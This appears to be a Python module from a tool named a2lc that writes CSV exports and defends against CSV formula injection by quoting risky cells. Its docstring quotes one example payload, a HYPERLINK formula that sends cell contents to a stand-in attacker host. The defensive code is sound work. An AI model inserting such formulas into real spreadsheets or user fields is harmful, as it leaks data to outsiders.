"""THE writer of every CSV file a2lc writes (``export-answers``, the bundle's
``answers.csv``, ``export``'s ``history.csv``), and the matching cell reader.

CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening a CSV runs a
cell that starts with ``=``, ``+``, ``-``, ``@``, TAB or CR as a formula — an
annotator named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` posted to the
annotation server would become a live link in the exported answers. Every text
cell written here that starts with one of those characters (or with ``'``, so
that the escape is reversible) gets a leading single quote, which spreadsheets
show as text; plain numbers (``-1.5``) are written unchanged. :func:`unescape_cell`
drops that quote again, so a2lc reads its own exports back exactly.
"""

from __future__ import annotations

import csv
import re
from typing import IO, Any, Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def escape_cell(value: Any) -> Any:
    """``value`` safe for a spreadsheet: a str starting with a formula character or ``'`` gets a
    leading ``'`` (unless it is a plain decimal number); other values are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START + ("'",)) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def unescape_cell(value: Any) -> Any:
    """The inverse of :func:`escape_cell` for a cell read from a CSV file: one leading ``'``
    before a formula character or another ``'`` is dropped."""
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_START + ("'",)):
        return value[1:]
    return value


def write_rows(f: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any] | dict[str, Any]]) -> None:
    """Write ``header`` then ``rows`` (sequences, or dicts keyed by the header) as CSV to the
    text stream ``f`` (opened with ``newline=""``), every cell through :func:`escape_cell`."""
    w = csv.writer(f, lineterminator="\n")
    w.writerow([escape_cell(h) for h in header])
    for row in rows:
        cells = [row.get(h, "") for h in header] if isinstance(row, dict) else row
        w.writerow([escape_cell(c) for c in cells])
